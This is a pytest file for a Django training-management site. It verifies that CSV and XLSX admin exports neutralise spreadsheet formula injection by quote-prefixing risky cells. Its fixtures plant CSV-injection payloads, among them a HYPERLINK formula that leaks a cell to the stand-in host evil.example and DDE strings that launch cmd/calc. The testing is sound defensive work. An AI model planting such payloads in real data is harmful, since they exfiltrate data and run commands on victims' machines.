"""Every spreadsheet export, read back: text that people typed (names, organizations, notes,
titles) never reaches a spreadsheet as a formula (docs/security.md, "Exports").

In CSV a cell starting with = + - @ tab or CR is prefixed with a single quote; numbers stay
numbers. In XLSX no cell is a formula. The listing exports are found by walking the URL
resolver, so a new listing with `list_export` is checked without a line here."""

import csv
import datetime as dt
import io
import unicodedata
from decimal import Decimal, InvalidOperation

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from certificates.models import Certificate
from lms.admin.reports import REPORT_PAGES
from lms.admin.toolkit import FormulaSafeExportMixin
from lms.exports import FORMULA_STARTS, spreadsheet_cell
from lms.models import Invoice, ScholarshipFund, Training, WebhookDelivery, WebhookEndpoint
from lms.services.api_keys import api_key_issue, api_key_use_record
from lms.services.registrations import registration_create
from lms.services.scholarships import scholarship_apply
from tests.certificates.helpers import certified_session
from tests.factories import (
    CertificateFactory,
    FacilitatorPayProfileFactory,
    OrganizationFactory,
    PaymentFactory,
    ScholarshipFundFactory,
    UserFactory,
    paid_session,
)
from tests.factories.compensation import paid_statement
from tests.lms.reports import report_data

from .url_walk import is_ours, url_patterns

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your certificate")'
PLANTED = {
    "printed_name": HYPERLINK,
    "pronouns": "@SUM(1+1)*cmd|' /C calc'!A0",
    "organization": "+1+cmd|' /C calc'!A0",
    "accessibility_needs": "-2+3+cmd|' /C calc'!A0",
    "license_number": "\t=1+1",
    "training": "＝1+1 Trauma-Informed Supervision",  # a full-width equals sign
    "note": "-1+cmd|' /C calc'!A0",
    "reference": "\r=1+1",
}


def formula_like(cell) -> bool:
    """A cell a spreadsheet would run: starts with a formula character and is not a number."""
    if not isinstance(cell, str) or not cell:
        return False
    if unicodedata.normalize("NFKC", cell[:1]) not in FORMULA_STARTS:
        return False
    try:
        Decimal(cell)
    except InvalidOperation:
        return True
    return False


def csv_cells(response) -> list[str]:
    body = b"".join(response) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8"))) for cell in row]


def xlsx_cells(response):
    body = b"".join(response) if response.streaming else response.content
    workbook = load_workbook(io.BytesIO(body))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_csv_safe(response, where) -> list[str]:
    assert response.status_code == 200, where
    assert response["Content-Type"].startswith("text/csv"), where
    cells = csv_cells(response)
    assert [c for c in cells if formula_like(c)] == [], where
    return cells


def assert_xlsx_safe(response, where):
    assert response.status_code == 200, where
    cells = xlsx_cells(response)
    assert [c.coordinate for c in cells if c.data_type == "f"] == [], where
    return [c.value for c in cells]


@pytest.fixture
def hostile_world():
    """A registrant, organization, training, payment, invoice, scholarship application, fund,
    sponsor and facilitator whose texts are spreadsheet formulas."""
    session, approval, (registration,) = certified_session(participants=1)
    Training.objects.filter(pk=session.training_id).update(title=PLANTED["training"])
    profile = registration.person.profile
    profile.printed_name = PLANTED["printed_name"]
    profile.pronouns = PLANTED["pronouns"]
    profile.accessibility_needs = PLANTED["accessibility_needs"]
    profile.license_number = PLANTED["license_number"]
    profile.organization = OrganizationFactory(name=PLANTED["organization"])
    profile.save()
    PaymentFactory(registration=registration, attention_note=PLANTED["note"], amount_cents=5000)
    Invoice.objects.create(
        number=1001,
        organization=profile.organization,
        coordinator=registration.person,
        session=session,
        total_cents=12000,
        issued_on=dt.date(2026, 3, 1),
        due_on=dt.date(2026, 3, 31),
        payment_reference=PLANTED["reference"],
    )
    fund = ScholarshipFundFactory(name="=fund", sponsor_name="@sponsor", credit_cents=10000)
    upcoming, tiers = paid_session()
    registration_create(
        session=upcoming, person=registration.person, tier=tiers["standard"], attested=True
    )
    scholarship_apply(
        session=upcoming,
        person=registration.person,
        fund=fund,
        need_statement="Need",
        coverage="full",
    )
    certificate = CertificateFactory(registration=registration, approval=approval)
    Certificate.objects.filter(pk=certificate.pk).update(training_title=PLANTED["training"])
    pay_profile = FacilitatorPayProfileFactory(legal_name="-legal", email="=a@example.org")
    pay_profile.facilitator.name = "@facilitator"
    pay_profile.facilitator.save()
    paid_statement(facilitator=pay_profile.facilitator, paid_on=dt.date(2026, 5, 1), pay_cents=1)
    key = api_key_issue(
        organization=profile.organization, name="=HR system", scopes=["registrations:read"]
    ).key
    api_key_use_record(
        key=key, method="GET", path="/api/v1/registrations/", status_code=200, client_address=None
    )
    hook = WebhookEndpoint.objects.create(url="https://93.184.216.34/hook", events=["x"])
    WebhookDelivery.objects.create(
        endpoint=hook, event_id="evt_1", event_type="x", payload={}, last_error="=1+1"
    )
    return registration


def listing_exports():
    """(route, view class) of every admin listing with a spreadsheet export."""
    for route, _name, pattern in url_patterns():
        if not is_ours(route, pattern):
            continue  # Wagtail's own reports (locked pages, site history): docs/security.md
        view_class = getattr(pattern.callback, "view_class", None)
        kwargs = getattr(pattern.callback, "view_initkwargs", {})
        if view_class and (kwargs.get("list_export") or getattr(view_class, "list_export", None)):
            yield route, view_class


def test_every_listing_export_is_formula_safe(client, hostile_world):
    exports = list(listing_exports())
    assert len(exports) >= 6  # roster, payments, invoices, applications, funds, sponsors
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    for route, view_class in exports:
        assert issubclass(view_class, FormulaSafeExportMixin), route
        cells = assert_csv_safe(client.get(f"/{route}?export=csv"), route)
        assert any(c.startswith("'") for c in cells), f"{route}: no planted text exported"
        values = assert_xlsx_safe(client.get(f"/{route}?export=xlsx"), route)
        # In XLSX the planted text is there as written, stored as text.
        assert any(formula_like(v) for v in values), f"{route}: no planted text exported"


def test_the_roster_export_shows_each_planted_text_as_text(client, hostile_world):
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    url = reverse("lms_registrations:index") + "?export=csv"
    rows = csv.DictReader(io.StringIO(b"".join(client.get(url)).decode()))
    (exported,) = [row for row in rows if "Trauma-Informed" in row["Session"]]
    assert exported["Printed name"] == "'" + HYPERLINK
    assert exported["Pronouns"] == "'" + PLANTED["pronouns"]
    assert exported["Organization"] == "'" + PLANTED["organization"]
    assert exported["Accessibility needs"] == "'" + PLANTED["accessibility_needs"]
    assert exported["License number"] == "'" + PLANTED["license_number"]
    assert exported["Session"].startswith("'" + PLANTED["training"])
    # Numbers stay numbers.
    assert exported["Amount (cents)"] == str(hostile_world.amount_cents)


def test_every_report_export_is_formula_safe(client):
    report_data.all_data()
    Training.objects.update(title="=" + "Training")
    for fund in ScholarshipFund.objects.all():
        ScholarshipFund.objects.filter(pk=fund.pk).update(name=f"@Fund {fund.pk}")
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    neutralised = 0
    for page in REPORT_PAGES:
        cells = assert_csv_safe(client.get(f"{page.url}?export=csv"), page.slug)
        neutralised += sum(c.startswith(("'=Training", "'@Fund")) for c in cells)
        values = assert_xlsx_safe(client.get(f"{page.url}?export=xlsx"), page.slug)
        neutralised += sum(formula_like(v) for v in values)
    assert neutralised > 0  # the planted titles did reach the files


def test_the_1099_list_export_is_formula_safe(client, hostile_world):
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    response = client.get(reverse("form_1099:index"), {"year": 2026, "format": "csv"})
    cells = assert_csv_safe(response, "1099")
    assert {"'@facilitator", "'-legal", "'=a@example.org"} <= set(cells)


def test_the_transcript_export_is_formula_safe(client, hostile_world):
    client.force_login(hostile_world.person)
    cells = assert_csv_safe(client.get(reverse("certificates:transcript_csv")), "transcript")
    assert "'" + PLANTED["training"] in cells


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text that looks like a number is still text
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＝1+1", "'＝1+1"),
        ("Dana = Smith", "Dana = Smith"),
        ("", ""),
        (None, None),
        (-1250, -1250),  # numbers stay numbers
        (Decimal("-12.50"), Decimal("-12.50")),
        (-0.5, -0.5),
        (dt.date(2026, 3, 1), "2026-03-01"),
    ],
)
def test_spreadsheet_cell(value, cell):
    assert spreadsheet_cell(value) == cell
